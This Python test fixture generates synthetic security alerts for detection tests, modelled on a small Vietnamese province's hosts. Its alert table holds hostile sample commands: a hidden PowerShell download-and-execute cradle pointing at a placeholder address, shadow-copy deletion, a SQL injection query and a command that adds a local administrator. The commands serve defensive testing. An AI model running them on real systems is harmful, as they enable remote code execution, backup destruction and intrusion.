"""Findings for tests: one with sensible defaults, and two days of a small province."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from typing import Any

import polars as pl

from detectors.identity import finding_id
from detectors.schema import FINDING, SEVERITY

START = datetime(2026, 7, 20, 17, tzinfo=UTC)  # midnight in Pleiku

# rule, level, pair of ATT&CK, hosts, message, runbook, command
KINDS = [
    (
        "Dò mật khẩu SSH từ một địa chỉ",
        "medium",
        ["credential-access / T1110.001"],
        ["cong-dvc-01", "sso-01", "xa-ia-drang-gw"],
        "Địa chỉ {ip} thử sai mật khẩu của tài khoản {user} trên {host}; thường ngày chỉ 1–2 lần.",
        "1. Tra địa chỉ nguồn trong danh bạ mạng chuyên dùng.\n2. Xem có lần đăng nhập thành công ngay sau đó không.",
        "sshd: /usr/sbin/sshd -D",
    ),
    (
        "Đăng nhập thành công sau nhiều lần sai",
        "high",
        ["credential-access / T1110.001", "initial-access / T1078"],
        ["cong-dvc-01"],
        "Tài khoản {user} đăng nhập được vào {host} từ {ip} sau 41 lần sai trong 6 phút.",
        "1. Gọi chủ tài khoản để xác nhận.\n2. Khoá tài khoản nếu không phải họ.\n3. Xem lệnh đã chạy.",
        "/usr/sbin/sshd -D -R",
    ),
    (
        "Suspicious PowerShell Download Cradle",
        "high",
        ["execution / T1059.001", "command-and-control / T1105"],
        ["ubnd-dc01", "stc-pc-114", "syt-pc-022"],
        "{user} on {host} ran PowerShell that downloads and runs a script in memory.",
        "1. Find the parent process.\n2. Look the URL up.\n3. Isolate the host if the script ran.",
        "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.66/a.ps1')\"",
    ),
    (
        "Ransomware: shadow copies deleted",
        "critical",
        ["impact / T1490", "stealth / T1070"],
        ["syt-hsba-02"],
        "vssadmin deleted every shadow copy on {host}. This precedes encryption in most ransomware cases.",
        "1. Isolate the host now.\n2. Check the backup server for the same account.\n3. Call the on-duty lead.",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        "SQL injection attempt in web request",
        "low",
        ["initial-access / T1190"],
        ["cong-tt-01", "hotline1022-web"],
        "{ip} sent SQL in the query of /tra-cuu on {host}.",
        "See whether any of the requests was answered with 200 and an unusual size.",
        "/tra-cuu?ma=1%27%20UNION%20SELECT%20user,pass--",
    ),
    (
        "New local administrator",
        "medium",
        ["persistence / T1136.001", "privilege-escalation / T1098"],
        ["ubnd-dc01", "stc-pc-114"],
        "{user} was added to Administrators on {host} outside a change window.",
        "Ask the owner of the host for the change record.",
        "net localgroup Administrators hotro2 /add",
    ),
]


def finding(**changes: Any) -> dict[str, Any]:
    """Return a finding as a row of FINDING; every column not named is null."""
    return dict.fromkeys(FINDING) | {"event.id": "f1", "@timestamp": START, "soc.level": "high"} | changes


def frame(*rows: dict[str, Any]) -> pl.DataFrame:
    return pl.DataFrame(rows, schema=FINDING, orient="row")


def province(count: int = 60, seed: int = 7) -> pl.DataFrame:
    """Return `count` findings over two days, busier at night."""
    dice = random.Random(seed)  # noqa: S311 - a reproducible sample, not a secret
    return frame(*(_found(dice, number) for number in range(count)))


def _found(dice: random.Random, number: int) -> dict[str, Any]:
    name, level, attack, hosts, message, runbook, command = dice.choices(KINDS, [20, 3, 8, 4, 18, 6])[0]
    host, user = dice.choice(hosts), dice.choice(["lan.nguyen", "hung.tran", "quantri", "svc_backup"])
    ip = f"203.0.113.{dice.randint(2, 40)}"
    time = START + timedelta(hours=min(dice.betavariate(2, 3), dice.random()) * 48, seconds=dice.randint(0, 59))
    told = message.format(ip=ip, user=user, host=host)
    slug = f"rule-{[kind[0] for kind in KINDS].index(name)}"
    fields = {"host.name": host, "user.name": user, "source.ip": ip, "process.command_line": command}
    event = {
        "event.id": f"{number:032x}",
        "@timestamp": time.isoformat(),
        "event.original": f"{time:%b %d %H:%M:%S} {host} {user}[{dice.randint(300, 9000)}]: {command} from {ip}",
        "fields": fields,
    }
    return finding(
        **{
            "event.id": finding_id(slug, f"{host}{number}", time),
            "@timestamp": time,
            "event.start": time,
            "event.end": time + timedelta(minutes=dice.randint(0, 50)),
            "event.severity": SEVERITY[level],
            "message": told,
            "rule.id": slug,
            "rule.name": name,
            "rule.description": "Looks for a pattern that is rare in normal administration and common in intrusions.",
            "rule.reference": ["https://attack.mitre.org/"],
            "host.name": [host],
            "user.name": [user],
            "source.ip": [ip],
            "process.command_line": [command],
            "soc.level": level,
            "soc.attack": attack,
            "soc.falsepositives": ["Quản trị viên chạy kiểm thử có đăng ký", "Backup software"],
            "soc.runbook": runbook,
            "soc.group": f"host.name={host} | user.name={user}",
            "soc.count": dice.randint(1, 60),
            "soc.evidence": json.dumps([event] * dice.randint(1, 2), ensure_ascii=False),
        }
    )
